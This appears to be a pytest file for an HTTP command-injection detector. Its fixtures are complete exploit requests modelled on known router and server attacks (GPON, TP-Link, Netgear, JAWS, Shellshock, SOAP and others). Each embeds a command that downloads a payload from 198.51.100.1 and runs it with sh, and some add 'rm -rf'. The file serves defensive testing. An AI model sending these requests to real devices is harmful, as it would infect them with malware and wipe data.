"""Commands are found in every place of a request, and ordinary requests have none."""

# ruff: noqa: E501 - requests and scripts stand as they are sent

from __future__ import annotations

from collections.abc import Callable
from contextlib import AbstractContextManager

import pytest

from mead.sensors.web.inject import injected_commands
from mead.wire.http import HttpRequest, HttpServer

FOUND = {
    "GPON": (b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n",
             b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.1/g+-O+/tmp/g;sh+/tmp/g`&ipv=0",
             b"busybox wget http://198.51.100.1/g -O /tmp/g;sh /tmp/g"),
    "TP-Link": (b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd%20/tmp;wget%20http://198.51.100.1/t;sh%20t) HTTP/1.1\r\nHost: x\r\n",
                b"", b"cd /tmp;wget http://198.51.100.1/t;sh t"),
    "Netgear": (b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/ HTTP/1.0\r\n",
                b"", b"rm -rf /tmp/*;wget http://198.51.100.1:8088/Mozi.m -O /tmp/netgear;sh netgear"),
    "JAWS": (b"GET /shell?cd+/tmp;rm+-rf+*;wget+198.51.100.1/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: x\r\n",
             b"", b"cd /tmp;rm -rf *;wget 198.51.100.1/jaws;sh /tmp/jaws"),
    "Shellshock": (b'GET /cgi-bin/x HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c "curl http://198.51.100.1/s|sh"\r\n',
                   b"", b'/bin/bash -c "curl http://198.51.100.1/s|sh"'),
    "JSON": (b"POST /ws/v1/cluster/apps HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n",
             b'{"am-container-spec":{"commands":{"command":"curl -s http://198.51.100.1/y.sh | bash"}}}',
             b"curl -s http://198.51.100.1/y.sh | bash"),
    "SOAP": (b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\n",
             b'<?xml version="1.0"?><s:Envelope><NewStatusURL>$(/bin/busybox wget -g 198.51.100.1 -l /tmp/k -r /mips; sh /tmp/k)</NewStatusURL></s:Envelope>',
             b"/bin/busybox wget -g 198.51.100.1 -l /tmp/k -r /mips; sh /tmp/k"),
    "double": (b"GET /ping.cgi?ip=127.0.0.1%253bwget%2520http%3a//198.51.100.1/d HTTP/1.1\r\nHost: x\r\n", b"",
               b"wget http://198.51.100.1/d"),
    "multipart": (b"POST /up HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n",
                  b'--b\r\nContent-Disposition: form-data; name="host"\r\n\r\n1.1.1.1;tftp -g -r f 198.51.100.1\r\n--b--\r\n',
                  b"tftp -g -r f 198.51.100.1"),
    "probe": (b"GET /x.cgi?ip=8.8.8.8%7Cid HTTP/1.1\r\nHost: x\r\n", b"", b"id"),
    "path": (b"GET /cgi-bin/;cd%20/tmp;wget%20http://198.51.100.1/p HTTP/1.1\r\nHost: x\r\n", b"",
             b"cd /tmp;wget http://198.51.100.1/p"),
}  # fmt: skip

ORDINARY = [
    b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: text/html,*/*;q=0.8\r\nCookie: id=1; sh=2; w=3\r\n",
    b"GET /search?q=how+to+use+wget&id=5;type=a HTTP/1.1\r\nHost: x\r\n",
    b"GET /index.php?page=id&cat=3 HTTP/1.1\r\nHost: x\r\nUser-Agent: curl/8.5.0\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Wget/1.21\r\nReferer: http://a/?x=1;y=2\r\n",
]  # fmt: skip


def request(head: bytes, body: bytes = b"") -> HttpRequest:
    length = b"Content-Length: %d\r\n" % len(body) if body else b""
    (found,) = [
        item for item in HttpServer().receive(head + length + b"\r\n" + body) if isinstance(item, HttpRequest)
    ]
    return found


@pytest.mark.parametrize("name", FOUND)
def test_a_command_is_found_where_the_exploit_puts_it(name: str) -> None:
    head, body, command = FOUND[name]
    assert injected_commands(request(head, body))[0][:1] == [command]


@pytest.mark.parametrize("head", ORDINARY)
def test_an_ordinary_request_has_none(head: bytes) -> None:
    assert injected_commands(request(head)) == ([], [])


def test_many_places_are_bounded() -> None:
    query = b"&".join(b"p%d=;wget%%20http://198.51.100.1/%d" % (n, n) for n in range(500))
    commands, limits = injected_commands(request(b"GET /?" + query + b" HTTP/1.1\r\nHost: x\r\n"))
    assert len(commands) == 8
    assert [limit.name for limit in limits] == ["injected_commands"]


@pytest.mark.parametrize(
    "body",
    [
        b"a=x" + b"\n" * 60_000 + b"x",
        b"a=" + b"; " * 30_000 + b"x",
        b"a=" + b"() { " * 12_000,
        b"a=" + b"`a" * 30_000,
        b"a=" + b"w " * 30_000,
        b"a=" + b"$(" * 30_000,
        b"[" * 60_000,
        b"<a>" + b">x" * 60_000,
    ],
    ids=lambda body: repr(body[2:8]),
)
def test_a_hostile_body_costs_time_in_proportion(
    body: bytes, costs_less: Callable[[float], AbstractContextManager[None]]
) -> None:
    with costs_less(1):
        injected_commands(request(b"POST / HTTP/1.1\r\nHost: x\r\n", body))


def test_only_so_much_is_looked_at_and_that_is_said() -> None:
    many = b"&".join(b"a%d=b" % number for number in range(300))
    _, limits = injected_commands(request(b"POST / HTTP/1.1\r\nHost: x\r\n", many))
    assert [limit.name for limit in limits] == ["injection_places"]
    long = b"&".join(b"a=" + b"x" * 60_000 for _ in range(40))
    _, limits = injected_commands(request(b"POST / HTTP/1.1\r\nHost: x\r\n", long))
    assert [limit.name for limit in limits] == ["injection_text"]
